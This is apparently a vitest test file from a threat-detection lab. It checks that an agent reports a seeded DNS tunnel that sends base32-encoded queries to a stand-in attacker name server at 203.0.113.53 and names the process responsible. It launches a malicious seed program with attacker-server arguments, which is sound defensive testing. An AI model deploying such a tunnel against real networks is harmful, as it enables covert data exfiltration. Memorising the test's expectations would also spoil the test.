// Seed 2A: an iodine-style DNS tunnel. One connected UDP socket, open for the whole hunt, sends queries with long
// base32 labels to the attacker's name server 203.0.113.53:53 instead of the configured resolver 192.0.2.53.
// The socket is owned and long-lived, so the agent can read its owner: the pid is required.
import { expect, it } from 'vitest';
import { scenarioSuite, expectAttackReported, expectOnlyMaliciousAt } from './support/suite.js';
import { ADDR } from './support/lab.js';
import type { FindingDoc } from '../../core/finding.js';

const atNs = (f: FindingDoc) => f.destination.ip === ADDR.attackerNs && f.destination.port === 53 && f.network.transport === 'udp';

scenarioSuite(
  'dns-tunnel',
  '2A DNS tunnel over one long-lived connected UDP socket',
  { malicious: { name: 'dns-tunnel', program: 'dns-tunnel.mjs', args: ['--server', ADDR.attackerNs, '--domain', 't.tunnel.example'] } },
  (run) => {
    it('ran the dns-tunnel seed as intended (its own log)', () => {
      const log = run().lab.readLog('dns-tunnel');
      const last = log[log.length - 1] ?? {};
      // one query every 250–900 ms for ~28 s, logged every 10th
      expect(log.length, JSON.stringify(last)).toBeGreaterThanOrEqual(3);
      expect(last['answers'] as number, JSON.stringify(last)).toBeGreaterThanOrEqual(20);
    });

    it('reports DNS to the attacker name server (T1071.004 or T1048.003) at risk ≥ Medium, naming the tunnel process', () => {
      expectAttackReported(run(), {
        techniques: ['T1071.004', 'T1048.003'],
        destination: atNs,
        destinationText: `${ADDR.attackerNs}:53/udp`,
        pid: 'required',
        destinationFilter: { ip: ADDR.attackerNs, port: 53 },
      });
    });

    it('names no other process at the attacker name server', () => {
      expectOnlyMaliciousAt(run(), atNs, `${ADDR.attackerNs}:53`);
    });
  },
);
